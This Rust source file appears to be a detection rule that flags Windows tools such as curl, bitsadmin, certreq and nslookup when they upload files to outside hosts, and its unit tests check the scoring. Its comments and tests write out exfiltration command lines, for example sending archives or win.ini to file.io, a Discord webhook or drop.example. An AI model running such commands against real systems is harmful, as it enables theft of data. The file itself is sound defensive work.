//! A general tool of the system is told to send a file out.
//!
//! **Fires** on curl (`-T`, `--upload-file`, `-F file=@…`, `--data-binary @…`, `-d @…`), wget (`--post-file`), bitsadmin
//! (`/upload`), certreq (`-Post`), ConfigSecurityPolicy and DataSvcUtil (to a web address), PowerShell's web commands with a file as body, `WebClient.Upload…`, mail with attachments,
//! copies to a WebDAV share outside (`\\host@SSL\DavWWWRoot`), finger, and `nslookup` with long names, to a host that is not in a
//! private network where the host is told.
//!
//! **ATT&CK** T1048.003 (over plain or encrypted web, mail), T1567.
//!
//! **Severity** by the sum of oddities: a file given to a web tool 2; to a service that takes files or texts from anyone, to a bare
//! address, by a tool that nobody uploads with (certreq, bitsadmin), an archive, from an odd place, renamed 1 to 2 each. Medium from 2, high
//! from 4.
//!
//! **False alarms** build and deployment scripts that send artefacts to a service of their own (private addresses and single-label hosts are
//! left out), crash reporters.

use crate::command::{Act, Launch, host_of, is_local, is_odd_place};
use crate::services::{names_a_hook, service_of};

/// Programs by name for the subscription.
pub const PROGRAMS: [&str; 15] = [
    "curl.exe",
    "wget.exe",
    "bitsadmin.exe",
    "certreq.exe",
    "powershell.exe",
    "pwsh.exe",
    "powershell_ise.exe",
    "finger.exe",
    "nslookup.exe",
    "net.exe",
    "xcopy.exe",
    "robocopy.exe",
    "cmd.exe",
    "configsecuritypolicy.exe",
    "datasvcutil.exe",
];
/// Their authors' names.
pub const ORIGINALS: [&str; 6] =
    ["curl.exe", "bitsadmin.exe", "certreq.exe", "finger.exe", "configsecuritypolicy.exe", "datasvcutil.exe"];

/// What a launch is worth telling for; none: nothing.
pub fn judge(launch: &Launch) -> Option<Act> {
    if launch.is(&["powershell", "pwsh", "powershell_ise"]) || launch.line.contains("powershell") {
        return super::script::judge(&launch.line);
    }
    let target =
        launch.words.iter().filter_map(|word| host_of(word)).find(|host| host.contains('.')).unwrap_or_default();
    let file = if launch.is(&["curl"]) || is_curl_shape(launch) {
        curl(launch)
    } else if launch.is(&["wget"]) {
        launch
            .words
            .iter()
            .find_map(|word| word.strip_prefix("--post-file").or_else(|| word.strip_prefix("--body-file")))
            .map(|file| ("wget posts a file", file.trim_start_matches('='), 2))
    } else if launch.is(&["bitsadmin"])
        && launch.words.iter().any(|word| matches!(word.as_str(), "/upload" | "/upload-reply" | "-upload"))
    {
        Some(("bitsadmin uploads a file", launch.words.last().map_or("", String::as_str), 3))
    } else if launch.is(&["certreq"]) && launch.has_any(&["-post", "/post"]) {
        Some(("certreq posts a file", launch.words.last().map_or("", String::as_str), 3))
    } else if launch.is(&["configsecuritypolicy", "datasvcutil"])
        && launch.words.iter().any(|word| word.contains("://"))
    {
        Some(("a tool of Windows carries a file to a web address", launch.words.first().map_or("", String::as_str), 3))
    } else if launch.is(&["finger"]) && launch.words.iter().any(|word| word.contains('@') && word.len() > 24) {
        Some(("finger carries data in a user's name", "", 3))
    } else if launch.is(&["nslookup"]) {
        long_label(launch).map(|name| ("nslookup asks for a name that carries data", name, 2))
    } else {
        dav(launch)
            .map(|word| ("files go to a WebDAV share", word, 2))
            .or_else(|| mapped(launch).map(|word| ("a web address is mapped as a drive", word, 1)))
    };
    let (what, file, points) = file?;
    if !target.is_empty() && is_local(target) {
        return None;
    }
    Some(weigh(Act::new(what, points), launch, file, target))
}

/// The oddities that all uploads share.
fn weigh(act: Act, launch: &Launch, file: &str, target: &str) -> Act {
    let service = service_of(target).is_some();
    let address = !target.is_empty() && target.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    let hook = !service && names_a_hook(&launch.line);
    act.odd(service || hook, 2, "to a service that takes files or texts from anyone")
        .odd(address, 1, "to a bare address")
        .odd(is_archive(file), 1, "an archive")
        .odd(is_odd_place(file), 1, "of a file in an odd place")
        .odd(launch.is_renamed(), 2, "under another name than its author's")
        .odd(launch.is_in_odd_place(), 1, "by a program in an odd place")
        .target(target)
}

fn is_curl_shape(launch: &Launch) -> bool {
    launch.words.iter().any(|word| word == "--upload-file" || word == "--data-binary")
}

fn curl(launch: &Launch) -> Option<(&'static str, &str, i64)> {
    let at = |word: &str| word.contains('@');
    // Switches are told in their case, which is lost here: `-T` uploads; `-t` is for telnet and hardly used.
    let sent = launch.words.iter().zip(launch.words.iter().skip(1)).find_map(|(option, value)| match option.as_str() {
        "-t" | "--upload-file" => Some(value.as_str()),
        "-f" | "--form" if value.contains("=@") || value.contains("=<") => value.split(['@', '<']).nth(1),
        "--data-binary" | "-d" | "--data" | "--data-ascii" | "--data-urlencode" | "--json"
            if at(value) && !value.starts_with('{') =>
        {
            value.split('@').nth(1)
        }
        _ => None,
    });
    let joined = || {
        launch.words.iter().find_map(|word| {
            word.strip_prefix("--upload-file=")
                .or_else(|| word.strip_prefix("-t").filter(|file| file.len() > 3))
                .or_else(|| word.strip_prefix("-f").and_then(|rest| rest.split_once("=@")).map(|(_, file)| file))
        })
    };
    sent.or_else(joined).map(|file| ("curl sends a file", file, 2))
}

/// A label of 30 characters or more: nobody types it.
fn long_label(launch: &Launch) -> Option<&str> {
    launch
        .words
        .iter()
        .map(String::as_str)
        .find(|word| word.contains('.') && word.split('.').any(|label| label.len() >= 30))
}

/// A share over the web: `\\host@ssl\davwwwroot`, `\\203.0.113.9@80\x`.
fn dav(launch: &Launch) -> Option<&str> {
    let shares = launch.words.iter().map(String::as_str).filter(|word| word.starts_with("\\\\"));
    let copies = launch.is(&["xcopy", "robocopy"]) || launch.has_any(&["copy", "move", "xcopy", "robocopy"]);
    shares.filter(|_| copies).find(|word| {
        word.contains("@ssl") || word.contains("@80") || word.contains("@443") || word.contains("davwwwroot")
    })
}

/// `net use x: https://host/…`, or to a WebDAV share.
fn mapped(launch: &Launch) -> Option<&str> {
    let web = |word: &&str| {
        word.starts_with("https://") || word.starts_with("http://") || word.starts_with("\\\\") && word.contains("@ssl")
    };
    (launch.is(&["net", "net1"]) && launch.has("use")).then(|| launch.words.iter().map(String::as_str).find(web))?
}

pub(super) fn is_archive(file: &str) -> bool {
    let file = file.trim_end_matches(['"', '\'', ')', ';', ',']);
    [".zip", ".rar", ".7z", ".gz", ".tar", ".cab", ".tgz", ".dmp", ".kirbi", ".dit"]
        .iter()
        .any(|ending| file.ends_with(ending))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn points(line: &str) -> i64 {
        let program = line.split(' ').next().unwrap();
        judge(&Launch::new(&format!("C:\\Windows\\System32\\{program}"), "", line)).map_or(-1, |act| act.points)
    }

    #[test]
    fn a_file_that_is_sent_is_seen_and_one_that_is_fetched_is_not() {
        assert!(points("curl.exe -F file=@c:\\x\\a.zip https://file.io") >= 4);
        assert!(points("curl.exe -T a.7z ftp://203.0.113.9/in/") >= 4);
        assert_eq!(points("curl.exe -o a.zip https://example.com/a.zip"), -1);
        assert_eq!(points("curl.exe -d {\"a\":\"b@c\"} https://example.com/api"), -1);
        assert_eq!(points("curl.exe -T a.jar http://10.1.2.3/repository/"), -1);
        assert_eq!(points("bitsadmin.exe /transfer /download x https://example.com/a c:\\a"), -1);
        assert!(points("bitsadmin.exe /transfer j /upload https://drop.example/x c:\\users\\public\\a.zip") >= 4);
        assert!(points("certreq.exe -Post -config https://drop.example c:\\windows\\win.ini") >= 3);
        assert_eq!(points("nslookup.exe example.com"), -1);
        assert!(points("curl.exe -F file1=@c:\\x\\a.7z https://discord.com/api/webhooks/1/x") >= 5);
        assert!(points("ConfigSecurityPolicy.exe c:\\x\\a.txt https://drop.example/up") >= 3);
        assert_eq!(points("net.exe use z: https://203.0.113.9/dav"), 2);
        assert_eq!(points("net.exe use z: \\\\fs1\\share"), -1);
        assert_eq!(points("curl.exe -f -L https://example.com/setup.exe -o setup.exe"), -1);
    }
}
